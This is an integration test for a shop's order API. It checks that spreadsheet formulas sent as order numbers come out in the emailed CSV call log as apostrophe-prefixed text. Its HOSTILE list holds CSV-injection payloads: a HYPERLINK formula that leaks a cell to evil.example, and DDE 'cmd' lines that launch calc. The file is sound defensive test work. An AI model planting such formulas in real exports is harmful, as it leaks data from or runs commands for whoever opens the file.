"""CSV injection (issue 18): what a shop's order API carries into the owner's call log opens in
a spreadsheet as text, never as a formula; masked numbers stay readable and amounts stay numbers.
On moto: the order posted through the API, the report sent by the hourly schedule through SES."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from chalice.test import Client

from chalicelib.clock import FixedClock
from tests.integration.conftest import post_order
from tests.integration.test_reports_moto import parsed, run_schedule, sent_messages, verify_sender

pytestmark = pytest.mark.integration
# 08:00 in Kyiv the day after the conftest's NOW: the demo shop's report hour.
REPORT_TIME = datetime(2015, 11, 24, 6, 0, tzinfo=UTC)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheets evaluate (OWASP, CSV injection)
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_order_numbers_reach_the_call_log_as_text_and_numbers_stay_readable(
    client: Client, clock: FixedClock
) -> None:
    # GIVEN orders posted through the shop's API whose order numbers are spreadsheet formulas
    for number, order_number in enumerate(HOSTILE):
        body = {"order_number": order_number, "phone": f"067 123-45-{60 + number}", "total": "250.50"}
        assert post_order(client, body).status_code == 201
    assert post_order(client, {"order_number": "K-7", "phone": "067 123-45-70", "total": "0"}).status_code == 201
    verify_sender("reports@kvitka.example")

    # WHEN the next morning's report goes out
    run_schedule(REPORT_TIME)

    # THEN no cell of the attached call log starts with a character a spreadsheet evaluates...
    (raw,) = sent_messages()
    (attachment,) = list(parsed(raw).iter_attachments())
    assert attachment.get_filename() == "calls-and-orders-2015-11-23.csv"
    rows = list(csv.DictReader(io.StringIO(str(attachment.get_content()))))
    assert len(rows) == 5
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row
    # ...the formulas read as the text that was sent, behind OWASP's apostrophe
    assert sorted(row["order_number"] for row in rows) == sorted(["K-7"] + ["'" + text for text in HOSTILE])
    # ...a masked number is readable, still masked; amounts are plain numbers
    assert {row["number"] for row in rows} == {f"'+380*******{60 + n}" for n in range(4)} | {"'+380*******70"}
    assert sorted(row["total"] for row in rows) == ["0", "250.50", "250.50", "250.50", "250.50"]
